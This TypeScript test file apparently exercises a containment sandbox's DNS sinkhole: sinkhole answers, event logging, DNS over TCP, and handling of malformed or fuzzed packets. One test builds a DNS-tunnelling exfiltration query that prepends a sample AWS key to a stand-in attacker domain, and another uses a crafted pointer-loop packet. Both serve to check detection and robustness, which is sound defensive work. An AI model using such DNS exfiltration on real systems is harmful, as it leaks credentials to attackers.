import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { dnsQuery, eventsOf, makeContainment, randomBytes } from './helpers.ts';

describe('DNS sink', () => {
  it('answers A with the sinkhole address and records the question', () => {
    const containment = makeContainment({ sinkhole: { ipv4: '10.99.0.7' } });
    const [reply] = containment.sendDatagram({ address: '10.10.10.31', port: 53 }, dnsQuery('evil.example.com'));
    assert.ok(reply);
    assert.deepEqual(reply.from, { address: '10.10.10.31', port: 53 });
    const bytes = Buffer.from(reply.bytes);
    assert.equal(bytes.readUInt16BE(0), 0x1234);
    assert.equal(bytes.readUInt16BE(2) & 0x800f, 0x8000, 'a response with NOERROR');
    assert.equal(bytes.readUInt16BE(6), 1, 'one answer');
    assert.deepEqual([...bytes.subarray(bytes.length - 4)], [10, 99, 0, 7]);
    const [event] = eventsOf(containment.events, 'dns_query');
    assert.equal(event!.facts.qname, 'evil.example.com');
    assert.equal(event!.facts.qtypeName, 'A');
    assert.equal(event!.facts.via, 'udp');
    assert.equal(event!.facts.answer, '10.99.0.7');
    assert.deepEqual(event!.destination, { address: '10.10.10.31', port: 53 });
    assert.equal(event!.protocol, 'dns');
  });

  it('answers AAAA with the IPv6 sinkhole and other types with no answer', () => {
    const containment = makeContainment();
    const [aaaa] = containment.sendDatagram({ address: '8.8.8.8', port: 53 }, dnsQuery('x.example', 28));
    const tail = Buffer.from(aaaa!.bytes).subarray(-16);
    assert.equal(tail.toString('hex'), 'fd000013003700000000000000000001');
    const [txt] = containment.sendDatagram({ address: '8.8.8.8', port: 53 }, dnsQuery('x.example', 16));
    assert.equal(Buffer.from(txt!.bytes).readUInt16BE(6), 0);
    assert.deepEqual(eventsOf(containment.events, 'dns_query').map((event) => event.facts.qtypeName), ['AAAA', 'TXT']);
  });

  it('records names that carry exfiltrated data exactly, escaping bytes that are not printable', () => {
    const containment = makeContainment();
    const secret = 'AKIAIOSFODNN7EXAMPLE';
    containment.sendDatagram({ address: '10.10.10.31', port: 53 }, dnsQuery(`${secret}.x.attacker.net`));
    const raw = Uint8Array.from([0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 3, 0x61, 0x00, 0x2e, 0, 0, 1, 0, 1]);
    containment.sendDatagram({ address: '10.10.10.31', port: 53 }, raw);
    const names = eventsOf(containment.events, 'dns_query').map((event) => event.facts.qname);
    assert.deepEqual(names, [`${secret}.x.attacker.net`, 'a\\000\\.']);
  });

  it('turns hostile messages into anomalies, never exceptions', () => {
    const containment = makeContainment();
    const to = { address: '10.0.0.1', port: 53 };
    assert.deepEqual(containment.sendDatagram(to, Uint8Array.of(1, 2, 3)), []);
    const loop = Uint8Array.from([0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0xc0, 12, 0, 1, 0, 1]);
    const [formErr] = containment.sendDatagram(to, loop);
    assert.equal(Buffer.from(formErr!.bytes).readUInt16BE(2) & 0xf, 1, 'FORMERR');
    const response = dnsQuery('a.b');
    response[2] = 0x81;
    assert.deepEqual(containment.sendDatagram(to, response), []);
    const counters = containment.counters.snapshot('containment.dns');
    assert.equal(counters['containment.dns.dns_header_truncated'], 1);
    assert.equal(counters['containment.dns.dns_pointer_loop'], 1);
    assert.equal(counters['containment.dns.dns_not_a_query'], 1);
    for (let seed = 1; seed <= 3_000; seed++) {
      const bytes = randomBytes(12 + (seed % 90), seed);
      if (seed % 3 === 0) bytes[2] = 0x01; // mostly queries, so the question parser runs
      containment.sendDatagram(to, bytes);
    }
  });

  it('speaks DNS over TCP with length prefixes', () => {
    const containment = makeContainment();
    const connection = containment.connectTcp({ address: '10.0.0.53', port: 53 })!;
    const query = dnsQuery('tcp.example');
    connection.send(Uint8Array.from([0, query.length, ...query.subarray(0, 5)]));
    assert.equal(connection.read(1000), null, 'waits for the whole message');
    connection.send(query.subarray(5));
    const reply = Buffer.from(connection.read(1000)!);
    assert.equal(reply.readUInt16BE(0), reply.length - 2);
    connection.close();
    const [event] = eventsOf(containment.events, 'dns_query');
    assert.equal(event!.facts.via, 'tcp');
    assert.equal(event!.facts.qname, 'tcp.example');
  });
});
